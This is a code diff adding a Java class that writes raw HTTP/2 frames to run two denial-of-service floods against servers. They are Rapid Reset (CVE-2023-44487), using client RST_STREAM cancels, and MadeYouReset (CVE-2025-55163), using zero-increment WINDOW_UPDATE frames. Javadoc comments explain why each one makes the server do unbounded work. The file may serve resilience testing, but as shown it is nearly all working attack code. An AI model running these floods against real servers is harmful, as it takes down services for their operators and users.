@@ -1,0 +1,73 @@
+package io.fedmesh.sidecar;
+
+import java.io.ByteArrayOutputStream;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+
+/**
+ * HTTP/2 floods of streams that end in a reset, written as raw frames with {@link
+ * ContinuationFlood#flood} as fast as the socket takes them, so that one read of the server holds
+ * thousands of them: each round opens a stream with a complete GET (what a server must hand on to
+ * its app) and then gets it reset.
+ *
+ * <ul>
+ *   <li>Rapid reset (CVE-2023-44487): the client resets the stream itself with RST_STREAM(CANCEL);
+ *       the stream no longer counts against the concurrency limit while the request may be at work.
+ *   <li>MadeYouReset (CVE-2025-55163): the client never resets a stream, it makes the server do it
+ *       with a WINDOW_UPDATE of zero on it, a stream error the server answers with RST_STREAM. A
+ *       server that only limits the resets its clients send does unbounded work.
+ * </ul>
+ */
+public final class ResetFloods {
+  /**
+   * The fewest bytes one round takes (HEADERS with a one-byte authority, then the 4-byte frame):
+   * how many rounds a read of the server may hold at most is its size divided by this.
+   */
+  public static final int MIN_ROUND_BYTES = (9 + 5 + 1) + (9 + 4);
+
+  private ResetFloods() {}
+
+  /**
+   * Rapid reset on {@code socket} (connected, handshake done) with requests for {@code authority}.
+   */
+  public static ContinuationFlood.Result rapidReset(Socket socket, String authority)
+      throws Exception {
+    // RST_STREAM with CANCEL (8)
+    return flood(socket, authority, 3, new byte[] {0, 0, 0, 8});
+  }
+
+  /** MadeYouReset on {@code socket} (connected, handshake done), requests for {@code authority}. */
+  public static ContinuationFlood.Result madeYouReset(Socket socket, String authority)
+      throws Exception {
+    // WINDOW_UPDATE with increment 0
+    return flood(socket, authority, 8, new byte[4]);
+  }
+
+  /**
+   * Runs rounds of a GET for {@code authority} (HEADERS with END_STREAM and END_HEADERS) followed
+   * by a frame of {@code type} with {@code payload} on the same stream, until the server closes the
+   * connection or {@link ContinuationFlood#CAP} bytes are written.
+   */
+  private static ContinuationFlood.Result flood(
+      Socket socket, String authority, int type, byte[] payload) throws Exception {
+    ByteArrayOutputStream opening = new ByteArrayOutputStream();
+    opening.write(ContinuationFlood.PREFACE);
+    opening.write(ContinuationFlood.frame(4, 0, 0, new byte[0])); // SETTINGS
+    byte[] host = authority.getBytes(StandardCharsets.US_ASCII);
+    ByteArrayOutputStream block = new ByteArrayOutputStream();
+    // GET, http, /, then :authority as a literal without indexing (name index 1)
+    block.write(new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, (byte) host.length});
+    block.write(host);
+    byte[] headers = block.toByteArray();
+    return ContinuationFlood.flood(
+        socket,
+        opening.toByteArray(),
+        i -> {
+          int stream = 2 * i + 1;
+          ByteArrayOutputStream round = new ByteArrayOutputStream();
+          round.writeBytes(ContinuationFlood.frame(1, 0x5, stream, headers));
+          round.writeBytes(ContinuationFlood.frame(type, 0, stream, payload));
+          return round.toByteArray();
+        });
+  }
+}
